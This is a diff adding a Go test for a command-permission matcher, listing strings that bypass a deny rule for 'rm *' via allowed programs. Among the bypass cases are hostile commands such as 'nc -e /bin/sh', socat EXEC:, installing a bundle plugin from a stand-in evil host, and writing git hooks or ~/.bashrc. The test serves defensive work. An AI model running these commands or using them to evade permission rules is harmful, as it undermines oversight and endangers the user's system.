@@ -102,3 +102,32 @@ func TestCommandAttack48BuildTools(t *testing.T) {
 		`just -f justfile build`, `task build`, `task -t Taskfile.yml build`, `tee out.txt`, `cp a.txt b.txt`}
 	checkCommands(t, allow, bypass, fine, bypass, fine)
 }
+
+// TestCommandAttack48Runners (attack48): options that run a command line
+// or program, and writers whose destination the matcher read nowhere.
+// On 8bd1f455 a deny rule for "rm *" and an allow rule for the program
+// allowed each string below: split --filter and sort
+// --compress-program run a program, man -P a pager command line, socat
+// EXEC: and nc -e a command, tmux and screen a shell command, rename a
+// Perl expression; rustup, poetry and bundle settings choose the programs
+// later calls run; awk's print > "f", patch ORIGFILE, patch -d DIR,
+// cpio -p DEST, pax -rw … DEST, gcc -aux-info and git mv write files.
+func TestCommandAttack48Runners(t *testing.T) {
+	allow := []string{"split *", "sort *", "man *", "socat *", "nc *", "ncat *", "tmux *", "screen *", "rename *", "rustup *",
+		"poetry *", "bundle *", "awk *", "patch *", "cpio *", "pax *", "gcc *", "git *"}
+	bypass := []string{
+		`split --filter='rm x' f`, `sort --compress-program=./evil x`, `man -P 'rm x' ls`, `man --pager='rm x' ls`,
+		`socat - EXEC:'rm x'`, `socat - SYSTEM:'rm x'`, `ncat -e 'rm x' h 1`, `ncat --sh-exec 'rm x' h 1`, `nc -e /bin/sh h 1`,
+		`nc -c 'rm x' h 1`, `tmux new 'rm x'`, `tmux send-keys 'rm x' Enter`, `screen rm x`, `rename 's/x/.bashrc/' x`,
+		`rename 'system("rm x")' f`, `rustup toolchain link evil /tmp/x`, `rustup default /tmp/x`, `rustup override set /tmp/x`,
+		`poetry env use ./python`, `bundle plugin install x --source https://evil`, `bundle binstubs rake --shebang=/tmp/x`,
+		`bundle install --binstubs ~/.ssh`, `awk '{print > ".git/hooks/pre-commit"}' x`, `awk '{print >> "Makefile"}' x`,
+		`awk '{printf "%s\n", $1 > "f"}' x`, `patch Makefile d.diff`, `patch -d ~ -p0 -i d.diff`, `cpio -pd ~`, `cpio -i -D ~`,
+		`pax -rw src ~`, `gcc -aux-info ~/.bashrc -c a.c`, `git mv x.txt Makefile`, `git mv x .husky/pre-commit`,
+	}
+	fine := []string{`split -l 10 f out/`, `sort -u x`, `man ls`, `socat - TCP:h:1`, `nc -zv h 22`, `tmux ls`, `screen -ls`,
+		`rustup default stable`, `poetry env use 3.12`, `bundle install`, `awk '$1 > 5 {print}' x`, `awk '{if ($1 > 5) print $2}' x`,
+		`awk '{print ($1 > 5)}' x`, `patch -p1 -i d.diff`, `patch src/a.c d.diff`, `cpio -pdm out`, `pax -rw src out`,
+		`gcc -c a.c -o a.o`, `git mv x.txt docs/y.txt`}
+	checkCommands(t, allow, bypass, fine, bypass, fine)
+}
